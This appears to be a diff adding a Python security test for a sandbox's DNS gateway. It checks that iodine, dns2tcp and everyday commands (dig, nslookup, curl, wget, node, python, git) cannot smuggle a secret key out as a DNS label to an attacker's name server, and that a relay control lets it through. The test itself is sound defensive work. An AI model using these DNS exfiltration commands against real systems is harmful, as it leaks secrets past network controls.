@@ -1,0 +1,121 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""Real tunnels and an agent's own commands, from a sandbox whose only way out is the DNS port, to a name server of an attacker's: by default
+nothing leaves. Each beside its control, in which it does. THREATS: J, K. In network and mount namespaces of its own; as root."""
+import os
+import secrets
+import shutil
+import sys
+import time
+
+import dns_lab as D
+import lab as L
+from faults import FULL
+from lab import Lab, Skip, wait_for
+
+ISOLATED = True
+AGENT = f"  - {{name: coder, identify: [{{source: {D.SANDBOX}/32}}]}}\n"
+SYNTHETIC = f"  synthetic: {{v4: {D.NEAR}, v6: null}}"
+TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A")
+CODECS = ("Base32", "Base64", "Base64u", "Base128", "Raw")
+
+
+def outgate(rules="", resolver=SYNTHETIC, tail=""):
+    """Its port is the sandbox's name server, the attacker's name server its upstream."""
+    return Lab(listen=f'  dns: ["{D.NEAR}:53"]', agents=AGENT, rules=rules, resolver=resolver, upstreams=f"{D.OUTSIDE}:53", tail=tail)
+
+
+def datagrams(net):
+    """UDP datagrams that came to the outside, whoever listened there or not."""
+    rows = [line.split() for line in net.run("outside", "cat", "/proc/net/snmp").stdout.splitlines() if line.startswith("Udp:")]
+    seen = dict(zip(rows[0], rows[1]))
+    return int(seen["InDatagrams"]) + int(seen["NoPorts"])
+
+
+def clients_of(d):
+    """iodine with every record type and codec, or a few of them."""
+    options = [(f"-T{t}", f"-O{c}") for t in TYPES for c in CODECS] if FULL else [(f"-T{t}",) for t in ("NULL", "TXT", "A")]
+    return [d.client("-d", f"dns{i}", *o) for i, o in enumerate([*options, ()])]
+
+
+def test_iodine():
+    """By default it never comes up, and its server hears nothing. The control: the same client and server with a relay in our place."""
+    with D.Net() as net:
+        d = D.Iodine(net)
+        with outgate() as lab:
+            before, started = datagrams(net), time.monotonic()
+            clients = clients_of(d)
+            seconds = 60 if FULL else 10
+            wait_for(lambda: time.monotonic() - started > seconds or any(d.up(p) for p in clients), "its time", seconds + 10)
+            assert not any(d.up(p) for p in clients) and datagrams(net) == before, [D.read(p)[-300:] for p in clients]
+            e = lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
+            assert e["agent"] == "coder" and e["rcode"] == "REFUSED" and e["code"] == "host_denied", e
+            for p in clients:
+                net.stop(p)
+        with D.Relay():
+            p = d.client("-TNULL")
+            wait_for(lambda: d.up(p), lambda: D.read(p), 30)
+            assert d.transfer(8192) == 8192
+
+
+def test_dns2tcp():
+    """As above: no byte comes to the server's resource."""
+    with D.Net() as net:
+        d = D.Dns2tcp(net)
+        with outgate() as lab:
+            before = datagrams(net)
+            for qtype in ("TXT", "KEY"):
+                p = d.client("-T", qtype)
+                assert d.transfer(8192) == 0 and datagrams(net) == before, D.read(p)
+                net.stop(p)
+            lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
+        with D.Relay():
+            d.client("-T", "TXT")
+            assert d.transfer(8192) == 8192
+
+
+def commands(name):
+    """What an agent would type to carry something out in a name."""
+    yield "ping", ["ping", "-c", "2", "-W", "1", name]
+    yield "getent", ["getent", "hosts", name]
+    yield "nslookup", ["nslookup", "-timeout=2", name]
+    yield "dig", ["dig", "+tries=1", "+timeout=2", "TXT", name]
+    yield "dig, over TCP", ["dig", "+tcp", "+tries=1", "+timeout=2", name]
+    yield "host", ["host", "-W", "2", name]
+    yield "curl", ["curl", "-sS", "-m", "5", f"http://{name}/"]
+    yield "wget", ["wget", "-q", "-T", "3", "-t", "1", "-O", "-", f"http://{name}/"]
+    yield "node", ["node", "-e", f"require('dns').resolveTxt('{name}', () => require('dns').lookup('{name}', () => 0))"]
+    yield "python", [sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo('{name}', 80)\nexcept OSError: pass"]
+    yield "git", ["git", "ls-remote", f"https://{name}/x.git"]
+
+
+def test_commands():
+    """A key as a label, by the commands of every day, with a cluster's search list: no packet leaves, and each attempt is in the log. The control: with a relay in
+    our place each of them carries it out."""
+    with D.Net(search="ns.svc.cluster.local svc.cluster.local cluster.local") as net:
+        listener = D.Listener(net)
+        tried = [(what, argv) for what, argv in commands("x") if shutil.which(argv[0])]
+        assert len(tried) >= 4, tried
+        with outgate() as lab:
+            before = datagrams(net)
+            for what, _ in tried:
+                key = secrets.token_hex(16)
+                argv = dict(commands(f"{key}.{D.ZONE}"))[what]
+                net.run("sandbox", *argv)
+                assert datagrams(net) == before and not listener.heard(key), what
+                e = lab.event(lambda e: e.get("qname") == f"{key}.{D.ZONE}", ("dns",))
+                assert e["verdict"] == "deny" and e["agent"] == "coder", (what, e)
+        with D.Relay():
+            for what, _ in tried:
+                key = secrets.token_hex(16)
+                net.run("sandbox", *dict(commands(f"{key}.{D.ZONE}"))[what])
+                assert listener.heard(key), f"the control: {what}"
+
+
+if __name__ == "__main__":
+    try:
+        D.isolated()
+    except Skip as e:
+        print(f"skip  test_dns_tunnels: {e}\n0 passed, 0 failed, 1 skipped")
+        sys.exit(0)
+    L.main()
